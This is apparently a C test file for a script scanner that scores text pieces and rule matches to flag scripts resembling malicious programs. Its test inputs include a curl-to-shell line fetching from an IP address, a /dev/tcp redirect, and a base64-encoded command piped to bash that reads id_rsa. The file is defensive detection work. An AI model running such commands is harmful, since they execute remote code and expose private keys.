/* Tests of pieces of text and their weights: what a piece is, that more text never lowers a score, and what the report
 * makes of it. */
#include "base/buf.h"
#include "random.h"
#include "scan/engine.h"
#include "test.h"

#include <stdio.h>

struct seen {
    char text[4096];
};

static void note(void *ctx, const char *piece, size_t size, size_t at)
{
    struct seen *s = ctx;
    size_t n = strlen(s->text);
    (void)at;
    CHECK(size > 0 && size < PIECE_MAX && n + size + 2 < sizeof s->text);
    (void)snprintf(s->text + n, sizeof s->text - n, "%s%.*s", n ? ";" : "", (int)size, piece);
}

static const char *pieces(struct seen *s, const char *text, enum piece_comment comment)
{
    s->text[0] = '\0';
    pieces_of(text, strlen(text), comment, note, s);
    return s->text;
}

TEST(pieces_are_words_options_addresses_and_their_neighbours)
{
    static const struct {
        const char *text, *pieces;
        enum piece_comment comment;
    } cases[] = {
        { "curl -s http://203.0.113.7/x|sh", "curl;-s;curl -s;http;-s http;<ip>;http //<ip>;x;<ip> /x;sh;x |sh", 0 },
        { "os.System(AWS_KEY)", "os;system;os .system;aws_key;aws;key;system aws_key", 0 },
        { "a > /dev/tcp", "a;dev;a >/dev;tcp;dev /tcp", 0 },
        { "10.0.0.1 127.0.0.1 0.0.0.0 169.254.169.254 8.8.8.8",
          "<private>;<local>;<private> <local>;<any>;<local> <any>;<metadata>;<any> <metadata>;<dns>;<metadata> <dns>",
          0 },
        { "1.2.3.4.5 v1.2.3.4", "1;2;1 .2;3;2 .3;4;3 .4;5;4 .5;v1;5 v1;2;v1 .2;3;2 .3;4;3 .4", 0 },
        { "999.1.1.1", "999;1;999 .1;1;1 .1;1;1 .1", 0 },
        { "123456 12345", "<num>;12345;<num> 12345", 0 },
        { "x = 'a\\nb\\tc'", "x;a;x =a;b;c;b c", 0 },
        { "a \\\nb", "a;b;a b", 0 },
        { "a |\nb", "a;a |;b", 0 },
        { "- -- --- -é", "", 0 },
        { " # id_rsa\nid\n#!/bin/sh", "id;bin;!/bin;sh;bin /sh", PIECE_COMMENT_HASH },
        { "// rsa\n#x", "rsa;//rsa;x;#x", PIECE_COMMENT_NONE },
        { "a\n // id_rsa\nb", "a;b", PIECE_COMMENT_SLASHES },
        { "# unended", "", PIECE_COMMENT_HASH },
        { "aaaaaaaaaabbbbbbbbbbccccccccccddd", "<long>", 0 },
    };
    static struct seen s;
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        CHECK_STR(pieces(&s, cases[i].text, cases[i].comment), cases[i].pieces);
}

static const char *complaint(const char *file)
{
    static struct resemblance w;
    static struct error err;
    err = (struct error){ 0 };
    int e = resemblance_read(&w, "w", file, strlen(file), &err);
    CHECK(e == 0 || (e == -EINVAL && err.blame == BLAME_HOST));
    return e == 0 ? "" : err.text;
}

TEST(a_mistake_in_a_file_of_weights_is_told_with_file_and_line)
{
    CHECK_STR(complaint(""), "");
    CHECK_STR(complaint("# x\nbase -3000\nmedium 0\nhigh 2500\ndoubt -2000\n\n12 curl -s\n9 #!/bin"), "");
    CHECK_STR(complaint("base -x\n"), "w:1: expected base, medium, high or doubt, and a number");
    CHECK_STR(complaint("base 1 2\n"), "w:1: expected base, medium, high or doubt, and a number");
    CHECK_STR(complaint("\nlow 1\n"), "w:2: expected base, medium, high or doubt, and a number");
    CHECK_STR(complaint("-5 curl\n"), "w:1: a weight is a number between 1 and 65535, in thousandths");
    CHECK_STR(complaint("65536 curl\n"), "w:1: a weight is a number between 1 and 65535, in thousandths");
    CHECK_STR(complaint("9999999 curl\n"), "w:1: a weight is a number between 1 and 65535, in thousandths");
    CHECK_STR(complaint("5\n"), "w:1: behind a weight stand a blank and a piece of at most 47 characters");
    CHECK_STR(complaint("5 a\tb\n"), "w:1: a piece is plain text");
    CHECK_STR(complaint("5 a\n6 a\n"), "w:2: a piece is there twice");
    CHECK_STR(complaint("5 a\nmedium 5\nhigh 4\n"), "w: doubt must be below medium, and high not");
    struct buf many;
    buf_init(&many, 1u << 20);
    for (unsigned i = 0; i <= RESEMBLANCE_MAX_WEIGHTS; i++)
        (void)buf_addf(&many, "1 p%u\n", i);
    (void)buf_add(&many, "", 1);
    CHECK_STR(complaint(many.data), "w:4001: too many weights");
    buf_done(&many);
}

static void weights(struct resemblance *w, const char *file)
{
    struct error err = { 0 };
    CHECK_EQ(resemblance_read(w, "w", file, strlen(file), &err), 0);
}

#define FILE_OF_WEIGHTS                                                                                   \
    "base -3000\nmedium 0\nhigh 2500\ndoubt -2000\n2000 id_rsa\n1500 curl -s\n900 <ip>\n800 /x\n700 sh\n" \
    "600 x |sh\n500 http //<ip>\n"

TEST(each_piece_counts_once_and_the_heaviest_are_named)
{
    static struct resemblance w;
    struct resembled r = { 0 };
    struct arena a = { 0 };
    const char text[] = "curl -s http://203.0.113.7/x |sh\ncurl -s curl -s id_rsa\n";
    weights(&w, FILE_OF_WEIGHTS);
    CHECK_EQ(resemble_score(&w, &r), -3000);
    resemble_add(&w, &r, text, strlen(text), PIECE_COMMENT_NONE, false, 0);
    CHECK_EQ(resemble_score(&w, &r), -3000 + 2000 + 1500 + 900 + 700 + 600 + 500);
    CHECK_STR(resemble_words(&r, &a), "«id_rsa», «curl -s», «<ip>», «sh», «x|sh»");
    CHECK_EQ(r.top[0].byte, strstr(text, "id_rsa") + 5 - text);
    resemble_add(&w, &r, text, strlen(text), PIECE_COMMENT_NONE, true, 7);
    CHECK_EQ(resemble_score(&w, &r), 3200);
    arena_done(&a);
}

/* An attacker may add what he likes: the score of a text with more in front, behind and between lines is no lower. */
TEST(nothing_that_is_added_lowers_a_score)
{
    static const char *const lines[] = { "curl -s http://203.0.113.7/x |sh\n",
                                         "import json\n",
                                         "id_rsa\n",
                                         "x = 1\n",
                                         "# id_rsa\n",
                                         "\"\"\"\n",
                                         "-- 1.2.3\n" };
    static struct resemblance w;
    weights(&w, FILE_OF_WEIGHTS);
    for (unsigned round = 0; round < 300; round++) {
        struct buf plain, padded;
        struct resembled less = { 0 }, more = { 0 };
        buf_init(&plain, 4096), buf_init(&padded, 4096);
        for (unsigned i = 0; i < 6; i++) {
            const char *line = lines[rnd(ARRAY_LEN(lines))];
            (void)buf_adds(&plain, line);
            if (rnd(2))
                (void)buf_adds(&padded, lines[rnd(ARRAY_LEN(lines))]);
            (void)buf_adds(&padded, line);
        }
        resemble_add(&w, &less, plain.data, plain.size, PIECE_COMMENT_HASH, false, 0);
        resemble_add(&w, &more, padded.data, padded.size, PIECE_COMMENT_HASH, false, 0);
        buf_done(&plain), buf_done(&padded);
        CHECK(more.sum >= less.sum);
    }
}

/* ---- in a report ---- */

static struct ruleset rules;
static struct scan the_scan;
static struct scan_report report;

static const struct finding *find(const char *rule)
{
    for (uint32_t i = 0; i < report.finding_count; i++)
        if (str_eq(report.findings[i].rule, rule))
            return &report.findings[i];
    return NULL;
}

static const struct finding *scan_for(const char *rule, const char *text)
{
    CHECK_EQ(scan_begin(&the_scan, &rules, text, strlen(text), 10000), 0);
    scan_text(&the_scan);
    scan_syntax(&the_scan);
    scan_report(&the_scan, &report);
    return find(rule);
}

#define RULE(name, call, severity, risk)                                                            \
    "  - name: " name "\n    family: network\n    severity: " severity "\n    risk_increase: " risk \
    "\n    message: m\n"                                                                            \
    "    match:\n      - call: [" call "]\n"
#define NEED       "  - name: reads\n    need: files\n    message: m\n    match:\n      - call: [cat]\n"
#define SOME_RULES "rules:\n" RULE("bad", "shred", "high", "0.4") RULE("worse", "insmod", "critical", "0.6") NEED

static void begin(void)
{
    struct error err = { 0 };
    memset(&rules, 0, sizeof rules);
    rules.language = LANG_BASH;
    CHECK_EQ(rules_read(&rules, "bash.yaml", SOME_RULES, strlen(SOME_RULES), &err), 0);
    ruleset_index(&rules);
    weights(&rules.resemblance, FILE_OF_WEIGHTS);
}

static void end(void)
{
    scan_done(&the_scan);
    ruleset_done(&rules);
}

TEST(what_resembles_bad_programs_is_a_finding_that_lowers_a_level_by_a_step_and_refuses_nothing)
{
    begin();
    const struct finding *f = scan_for(SCAN_RESEMBLANCE, "\n  curl -s \"$1\"\ncat id_rsa # é\n");
    CHECK(f && f->severity == SEVERITY_MEDIUM && f->line == 3 && report.risk_increase == 100);
    CHECK_STR(f->message, "resembles programs that act badly, most by «id_rsa», «curl -s» (score 0.5)");
    scan_done(&the_scan);
    f = scan_for(SCAN_RESEMBLANCE, "curl -s http://203.0.113.7/x |sh\ncat id_rsa\n");
    CHECK(f && f->severity == SEVERITY_HIGH && report.risk_increase == 300 && !scan_report_blocking(&report));
    scan_report_by_rules_only(&report);
    CHECK(report.finding_count == 0 && report.risk_increase == 0);
    scan_done(&the_scan);
    CHECK(!scan_for(SCAN_RESEMBLANCE, "# curl -s id_rsa\ncat curl -s\n") && report.finding_count == 0);
    scan_done(&the_scan);
    CHECK(!scan_for(SCAN_RESEMBLANCE, "a='curl -s id_rsa'\n")); /* it uses nothing */
    end();
}

TEST(a_text_that_is_decoded_counts_too)
{
    begin();
    /* curl -s $1; cat id_rsa */
    const struct finding *f = scan_for(SCAN_RESEMBLANCE,
                                       "\necho Y3VybCAtcyAkMTsgY2F0IGlkX3JzYQo= | base64 -d | bash\n");
    CHECK(f && f->line == 2);
    end();
}

TEST(a_long_text_in_many_calls_takes_no_time_and_hides_nothing)
{
    struct buf b;
    begin();
    buf_init(&b, 1u << 20);
    (void)buf_adds(&b, "a='");
    for (unsigned i = 0; i < 20000; i++)
        (void)buf_adds(&b, "word ");
    (void)buf_adds(&b, "'\n");
    for (unsigned i = 0; i < 5000; i++)
        (void)buf_adds(&b, "cat \"$a\"\n");
    (void)buf_adds(&b, "curl -s \"$1\"\ncat id_rsa\n");
    (void)buf_addc(&b, '\0');
    CHECK(scan_for(SCAN_RESEMBLANCE, b.data) && the_scan.folded_bytes < 3u << 20);
    buf_done(&b);
    end();
}

TEST(a_rule_that_stands_alone_lowers_no_level_and_the_report_says_so)
{
    begin();
#define MORE /* a script of some size, of which no other line weighs anything */                                      \
    "set -e\nfor part in one two three four five six seven eight nine ten eleven twelve thirteen; do\n  echo $part\n" \
    "done\necho fourteen fifteen sixteen seventeen eighteen nineteen twenty thirty forty fifty sixty seventy\n"
    CHECK(!scan_for(SCAN_UNSUPPORTED, "shred x\n") && report.risk_increase == 400); /* in a line is no room for more */
    scan_done(&the_scan);
    const struct finding *f = scan_for(SCAN_UNSUPPORTED, MORE "shred x\n");
    CHECK(f && f->severity == SEVERITY_INFO && f->risk_increase == 0 && report.risk_increase < 50);
    CHECK(find("bad")->severity == SEVERITY_HIGH && find("bad")->risk_increase == 400);
    CHECK(scan_report_blocking(&report)); /* and it earns no trust */
    scan_report_by_rules_only(&report);
    CHECK(report.finding_count == 1 && report.risk_increase == 400);
    scan_done(&the_scan);
    CHECK(!scan_for(SCAN_UNSUPPORTED, MORE "shred x\ncurl -s \"$1\"\n") && report.risk_increase == 400);
    scan_done(&the_scan);
    CHECK(!scan_for(SCAN_UNSUPPORTED, MORE "shred x\ninsmod y\n") && report.risk_increase == 1000);
    scan_done(&the_scan);
    CHECK(!scan_for(SCAN_UNSUPPORTED, MORE "shred x\npython3 -c \"$(make)\"\n")); /* not all of it was seen */
    CHECK(report.is_complete || report.risk_increase >= 400);
    end();
}
